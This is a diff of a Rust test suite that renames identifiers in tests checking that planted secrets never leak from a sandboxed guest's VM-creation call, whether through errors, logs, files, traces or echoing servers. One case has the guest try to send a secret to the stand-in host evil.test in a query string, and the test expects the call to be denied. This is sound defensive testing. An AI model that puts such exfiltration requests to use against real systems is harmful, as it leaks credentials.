@@ -1,9 +1,8 @@
-//! All the ways in which a call can end, each with a secret in every field: none
-//! of them is in any output, file, or in the guest's memory, and each arrived
-//! where it belongs.
+//! Every way in which a call can end, with a secret in every field. No output, file or
+//! memory of the guest holds a secret, and each secret arrives where it belongs.
 
-use super::garden::seed;
-use super::scene::{CLOUDS, Scene, Search};
+use super::scenario::{SERVERS, Scenario, Search};
+use super::secret_set::seed;
 use crate::case::Case;
 use crate::world::World;
 use rustix::process::Signal;
@@ -14,17 +13,18 @@ use tests::{Job, Response, dist};
 
 const CLASS: &str = "secrets";
 
-/// How a call ends, after the guest has used all there is to use.
+/// The end of a call, after the guest has used every capability.
 struct Ending {
     name: &'static str,
-    holes: &'static [&'static str],
-    /// Laid over the config, key by key; and over what servers answer.
+    mutants: &'static [&'static str],
+    /// Replaces keys of the config; `serve` replaces answers of servers.
     config: Value,
     serve: Value,
-    /// In place of `BASE` stands the number of the first one.
+    /// `BASE` stands for the number of the first of these operations.
     operations: Value,
-    /// What the error says; empty for a success.
+    /// Texts of the error; none for a success.
     says: &'static [&'static str],
+    /// A line of the log, after which the call gets SIGTERM.
     signal: Option<&'static str>,
     search: Search,
 }
@@ -33,7 +33,7 @@ impl Default for Ending {
     fn default() -> Self {
         Ending {
             name: "",
-            holes: &[],
+            mutants: &[],
             config: json!({}),
             serve: json!({}),
             operations: json!([]),
@@ -46,69 +46,69 @@ impl Default for Ending {
 
 pub(super) fn cases() -> Vec<Case> {
     let endings = endings().into_iter().enumerate().map(|(turn, ending)| {
-        Case::new(CLASS, ending.name, ending.holes, move |world| {
+        Case::new(CLASS, ending.name, ending.mutants, move |world| {
             ending.attempt(world, turn).map_err(|why| format!("ATTACK_SEED={}: {why}", seed()))
         })
-        .speaking_to(CLOUDS)
+        .may_contact(SERVERS)
     });
     endings.collect()
 }
 
 fn endings() -> Vec<Ending> {
     let get = |url: &str| json!({"op": "http", "url": url});
-    let told = json!({"op": "error", "kind": "cloud", "message": "{{BASE|json}}"});
+    let fail = json!({"op": "error", "kind": "cloud", "message": "{{BASE|json}}"});
     vec![
         Ending {
-            name: "planted everywhere, then a success",
-            holes: &["sealed-properties", "sealed-env", "sealed-agent"],
+            name: "secrets in every field, then a success",
+            mutants: &["sealed-properties", "sealed-env", "sealed-agent"],
             operations: json!([{"op": "result", "json": "vm-2"}]),
             search: Search::All,
             ..Ending::default()
         },
         Ending {
-            name: "planted everywhere, then an error that quotes all it saw",
+            name: "secrets in every field, then an error that quotes all that the guest saw",
             operations: json!([{"op": "error", "kind": "cloud", "message": "{{0.ok|json}} {{5.ok|base64}} {{6.ok|json}} {{7.ok|json}} {{18.ok|json}}"}]),
             says: &["<sealed:auth.password>"],
             ..Ending::default()
         },
         Ending {
-            name: "planted everywhere, then a denial",
-            operations: json!([get("https://evil.test/?q={{5.ok}}"), told]),
+            name: "secrets in every field, then a denial",
+            operations: json!([get("https://evil.test/?q={{5.ok}}"), fail]),
             says: &["no grant names the host evil.test"],
             ..Ending::default()
         },
         Ending {
-            name: "planted everywhere, then a seal in the wrong place",
-            operations: json!([get("https://open.iaas.test/?q={{props.auth.password}}"), told]),
+            name: "secrets in every field, then a seal in the wrong place",
+            operations: json!([get("https://open.iaas.test/?q={{props.auth.password}}"), fail]),
             says: &["the sealed value `auth.password` stands in the URL"],
             ..Ending::default()
         },
         Ending {
-            name: "planted everywhere, then a trap",
+            name: "secrets in every field, then a trap",
             operations: json!([{"op": "trap"}]),
             says: &["guest: trapped in create_vm"],
             ..Ending::default()
         },
         Ending {
-            name: "planted everywhere, then a panic that quotes all it saw",
+            name: "secrets in every field, then a panic that quotes all that the guest saw",
             operations: json!([{"op": "panic", "message": "{{0.ok|json}} {{7.ok|json}}"}]),
             says: &["guest: "],
             ..Ending::default()
         },
         Ending {
-            name: "planted everywhere, then an exit",
+            name: "secrets in every field, then an exit",
             operations: json!([{"op": "exit", "code": 0}]),
             says: &["called exit"],
             ..Ending::default()
         },
         Ending {
-            name: "planted everywhere, then too much recursion",
+            name: "secrets in every field, then endless recursion",
             operations: json!([{"op": "recurse", "frames": "small"}]),
             says: &["`stack_kib`"],
             ..Ending::default()
         },
         Ending {
-            name: "planted everywhere, then no more time",
+            name: "secrets in every field, then a timeout",
             config: json!({"limits": {"wall_seconds": 6, "cleanup_seconds": 5}}),
             search: Search::Nothing,
             operations: json!([{"op": "clock.sleep", "ms": 60_000, "on_cancel": [{"op": "log", "message": "{{0.ok|json}}"}, {"op": "http", "method": "POST", "url": "https://open.iaas.test/undo"}]}]),
@@ -116,7 +116,7 @@ fn endings() -> Vec<Ending> {
             ..Ending::default()
         },
         Ending {
-            name: "planted everywhere, then no more time for a guest that does not listen",
+            name: "secrets in every field, then a timeout of a guest that cannot be cancelled",
             config: json!({"limits": {"wall_seconds": 6, "cleanup_seconds": 1}}),
             search: Search::Nothing,
             operations: json!([{"op": "wasi.sleep", "ms": 60_000}]),
@@ -124,7 +124,7 @@ fn endings() -> Vec<Ending> {
             ..Ending::default()
         },
         Ending {
-            name: "planted everywhere, then no more computing",
+            name: "secrets in every field, then exhausted CPU time",
             config: json!({"limits": {"cpu_seconds": 2, "cleanup_seconds": 1}}),
             search: Search::Nothing,
             operations: json!([{"op": "loop"}]),
@@ -132,70 +132,70 @@ fn endings() -> Vec<Ending> {
             ..Ending::default()
         },
         Ending {
-            name: "planted everywhere, then no more memory",
+            name: "secrets in every field, then exhausted memory",
             config: json!({"limits": {"memory_mib": 16}}),
-            operations: json!([{"op": "grow", "mib": 64}, told]),
+            operations: json!([{"op": "grow", "mib": 64}, fail]),
             says: &["`memory_mib`"],
             ..Ending::default()
         },
         Ending {
-            name: "planted everywhere, then an answer that is none",
+            name: "secrets in every field, then a malformed answer",
             serve: json!({"open.iaas.test": {"raw": "nonsense"}}),
-            operations: json!([get("https://open.iaas.test/"), told]),
+            operations: json!([get("https://open.iaas.test/"), fail]),
             says: &["protocol"],
             ..Ending::default()
         },
         Ending {
-            name: "planted everywhere, then an answer that is cut short",
+            name: "secrets in every field, then an answer that is cut off",
             serve: json!({"api.iaas.test/v1/cut": {"raw": "HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\nhalf"}}),
-            operations: json!([get("https://api.iaas.test/v1/cut"), told]),
+            operations: json!([get("https://api.iaas.test/v1/cut"), fail]),
             says: &["truncated"],
             ..Ending::default()
         },
         Ending {
-            name: "planted everywhere, then a server that echoes a credential",
+            name: "secrets in every field, then a server that echoes a credential",
             serve: json!({"basic.iaas.test/echo": {"echo": true}}),
-            operations: json!([get("https://basic.iaas.test/echo"), told]),
+            operations: json!([get("https://basic.iaas.test/echo"), fail]),
             says: &["it holds the secret `basic."],
             ..Ending::default()
         },
         Ending {
-            name: "planted everywhere, then servers that echo agent settings and a token",
+            name: "secrets in every field, then servers that echo agent settings and a token",
             serve: json!({"api.iaas.test/v1/echo": {"echo": true}}),
             operations: json!([get("https://api.iaas.test/v1/echo"), get("https://api.iaas.test/v1/echo"), {"op": "result", "json": "vm-2"}]),
             says: &["policy: 2 answers held secrets (last `token of login main`)"],
             ..Ending::default()
         },
         Ending {
-            name: "planted everywhere, then a token that is taken no longer",
+            name: "secrets in every field, then a token that is no longer accepted",
             serve: json!({"form.iaas.test/401": {"status": 401, "echo": true}, "oauth.iaas.test": ["as before", {"status": 403, "echo": true}]}),
-            operations: json!([get("https://form.iaas.test/401"), told]),
+            operations: json!([get("https://form.iaas.test/401"), fail]),
             says: &["login `form`", "HTTP 403"],
             ..Ending::default()
         },
         Ending {
-            name: "planted everywhere, then lines of JSON on stderr",
+            name: "secrets in every field, then JSON lines on stderr",
             config: json!({"log": {"level": "debug", "format": "json"}}),
             operations: json!([{"op": "log", "level": "error", "message": "{{0.ok|json}}\n{{7.ok|json}}\u{1b}[2J"}, {"op": "trap"}]),
             says: &["guest: trapped"],
             ..Ending::default()
         },
         Ending {
-            name: "planted everywhere, then a trace of HTTP with bodies",
+            name: "secrets in every field, then an HTTP trace with bodies",
             config: json!({"http_trace": "bodies"}),
             operations: json!([{"op": "result", "json": "vm-2"}]),
             search: Search::All,
             ..Ending::default()
         },
         Ending {
-            name: "planted everywhere, then the Director's signal to end",
+            name: "secrets in every field, then SIGTERM from the Director",
             operations: json!([{"op": "log", "message": "waiting"}, {"op": "clock.sleep", "ms": 60_000, "on_cancel": [{"op": "log", "message": "{{0.ok|json}}"}]}]),
             signal: Some("info: waiting"),
             says: &["SIGTERM"],
             ..Ending::default()
         },
         Ending {
-            name: "planted everywhere, then an answer that is garbage",
+            name: "secrets in every field, then a garbage result",
             operations: json!([{"op": "garbage", "kind": "bad-json"}]),
             says: &["guest: "],
             ..Ending::default()
@@ -205,44 +205,44 @@ fn endings() -> Vec<Ending> {
 
 impl Ending {
     fn attempt(&self, world: &World, turn: usize) -> Result<(), String> {
-        let mut scene = Scene::new(world, turn);
-        scene.search = self.search;
-        overlay(&mut scene.served, &self.serve);
-        scene.job = std::mem::take(&mut scene.job).configure(|config| overlay(config, &self.config));
-        scene.set(world)?;
-        let mut operations = scene.visits();
+        let mut scenario = Scenario::new(world, turn);
+        scenario.search = self.search;
+        overlay(&mut scenario.served, &self.serve);
+        scenario.job = std::mem::take(&mut scenario.job).configure(|config| overlay(config, &self.config));
+        scenario.set_up(world)?;
+        let mut operations = scenario.use_everything();
         let base = operations.len().to_string();
         let more = self.operations.to_string().replace("BASE", &base);
         operations.extend(serde_json::from_str::<Vec<Value>>(&more).map_err(|error| error.to_string())?);
-        let mut call = scene.create_vm(&operations);
+        let mut call = scenario.create_vm(&operations);
         if let Some(line) = self.signal {
             call = call.signal_at(line, Signal::TERM);
         }
         let response = call.run();
-        self.ended(&response)?;
-        clean(&scene, &response)?;
-        scene.held(&response.stderr)?;
-        // The trace shows what the host sent, and so it is redacted.
-        let seen: Vec<&str> = response.stderr.lines().filter(|line| !line.contains(" http_trace trace: ")).collect();
-        let told = format!("{}{}", response.json, seen.join("\n"));
-        if told.contains("<redacted>") {
-            return Err(format!("the guest knows what it should not: {told}"));
+        self.check_error(&response)?;
+        expect_no_leak(&scenario, &response)?;
+        scenario.check_logged_results(&response.stderr)?;
+        // Only the HTTP trace may be redacted, as it shows what the host sent.
+        let lines: Vec<&str> = response.stderr.lines().filter(|line| !line.contains(" http_trace trace: ")).collect();
+        let shown = format!("{}{}", response.json, lines.join("\n"));
+        if shown.contains("<redacted>") {
+            return Err(format!("the guest knows a secret, which was redacted: {shown}"));
         }
-        // Whatever came later, all of it had arrived before.
-        let arrived = scene.arrived(world)?;
+        // However the call ends, each host has received its secrets before.
+        let arrived = scenario.received_secrets(world)?;
         for (host, names) in arrived.iter().filter(|(host, _)| !host.starts_with("api")) {
-            same(host, names, &scene.belonging(host))?;
+            expect_same(host, names, &scenario.allowed_at(host))?;
         }
         let api = arrived.get("api.iaas.test").cloned().unwrap_or_default();
         let without_registry = |name: &String| !name.starts_with("registry.");
-        same("api", &api, &scene.belonging("api.iaas.test").into_iter().filter(without_registry).collect())?;
-        slots(&scene, world)
+        expect_same("api", &api, &scenario.allowed_at("api.iaas.test").into_iter().filter(without_registry).collect())?;
+        check_slots(&scenario, world)
     }
 
-    fn ended(&self, response: &Response) -> Result<(), String> {
+    fn check_error(&self, response: &Response) -> Result<(), String> {
         let message = response.json["error"]["message"].as_str().unwrap_or_default();
         if self.says.is_empty() != response.json["error"].is_null() {
-            return Err(format!("ended in another way: {}", response.json));
+            return Err(format!("the call ended in another way: {}", response.json));
         }
         match self.says.iter().find(|part| !message.contains(*part)) {
             Some(part) => Err(format!("no `{part}` in {message}")),
@@ -251,11 +251,11 @@ impl Ending {
     }
 }
 
-/// Values in slots arrived as they are, and as one value.
-fn slots(scene: &Scene, world: &World) -> Result<(), String> {
+/// Fails unless each secret arrived unchanged as the one value of its slot.
+fn check_slots(scenario: &Scenario, world: &World) -> Result<(), String> {
     let secret =
-        |name: &str| scene.garden.planted().iter().find(|(known, _)| known == name).map(|(_, secret)| secret.clone());
-    for arrived in world.arrived() {
+        |name: &str| scenario.secrets.all().iter().find(|(known, _)| known == name).map(|(_, secret)| secret.clone());
+    for arrived in world.requests() {
         let Some(kind) = arrived.request.target().strip_prefix("/v1/slot/") else { continue };
         let (text, secret) = (arrived.request.text(), secret(&format!("slots.{kind}")).unwrap_or_default());
         let expected = match kind {
@@ -265,7 +265,7 @@ fn slots(scene: &Scene, world: &World) -> Result<(), String> {
             _ => format!("--X\r\nContent-Disposition: form-data; name=\"data\"\r\n\r\n{secret}\r\n--X--\r\n"),
         };
         if text != expected {
-            return Err(format!("the slot of kind {kind} holds {text:?} instead of {expected:?}"));
+            return Err(format!("the request with the slot of kind {kind} is {text:?}, expected {expected:?}"));
         }
     }
     Ok(())
@@ -285,36 +285,37 @@ fn escaped(text: &str) -> String {
     entities.iter().fold(text.to_owned(), |text, (c, entity)| text.replace(*c, entity))
 }
 
-/// No output, and no file that a call could have written, holds a secret.
-pub(super) fn clean(scene: &Scene, response: &Response) -> Result<(), String> {
-    scene.garden.is_not_in("the response", response.json.to_string().as_bytes())?;
-    scene.garden.is_not_in("stderr", response.stderr.as_bytes())?;
-    files(scene, &scene.job)
+/// Fails if an output, or a file that the call could have written, holds a secret.
+pub(super) fn expect_no_leak(scenario: &Scenario, response: &Response) -> Result<(), String> {
+    scenario.secrets.expect_none_in("the response", response.json.to_string().as_bytes())?;
+    scenario.secrets.expect_none_in("stderr", response.stderr.as_bytes())?;
+    check_files(scenario, &scenario.job)
 }
 
-/// All that the call can have written. What many share is looked at where it is new.
-fn files(scene: &Scene, job: &Job) -> Result<(), String> {
+/// Fails if a file that the call could have written holds a secret. In the shared cache,
+/// only new files are read.
+fn check_files(scenario: &Scenario, job: &Job) -> Result<(), String> {
     let changed = |path: &Path| std::fs::metadata(path).and_then(|metadata| metadata.modified()).ok();
-    let begun = changed(&job.config_file());
+    let start = changed(&job.config_file());
     let mut waiting = vec![job.path(""), dist::shared_cache().to_owned()];
     let own: [&Path; 2] = [&job.config_file(), &job.policy_file()];
     while let Some(path) = waiting.pop() {
         if path.is_dir() {
             waiting.extend(std::fs::read_dir(&path).into_iter().flatten().flatten().map(|entry| entry.path()));
-        } else if !own.contains(&path.as_path()) && (!path.starts_with(dist::shared_cache()) || changed(&path) >= begun)
+        } else if !own.contains(&path.as_path()) && (!path.starts_with(dist::shared_cache()) || changed(&path) >= start)
         {
             let bytes = std::fs::read(&path).map_err(|error| format!("{}: {error}", path.display()))?;
-            scene.garden.is_not_in(&path.display().to_string(), &bytes)?;
+            scenario.secrets.expect_none_in(&path.display().to_string(), &bytes)?;
         }
     }
     Ok(())
 }
 
-fn same(host: &str, names: &BTreeSet<String>, expected: &BTreeSet<String>) -> Result<(), String> {
-    if names == expected { Ok(()) } else { Err(format!("{host} got {names:?} instead of {expected:?}")) }
+fn expect_same(host: &str, names: &BTreeSet<String>, expected: &BTreeSet<String>) -> Result<(), String> {
+    if names == expected { Ok(()) } else { Err(format!("{host} received {names:?}, expected {expected:?}")) }
 }
 
-/// In a list, `as before` is what stood there.
+/// Replaces keys of the target. In a list, `as before` stands for the old value.
 pub(super) fn overlay(target: &mut Value, keys: &Value) {
     for (key, value) in keys.as_object().into_iter().flatten() {
         let before = target[key].take();
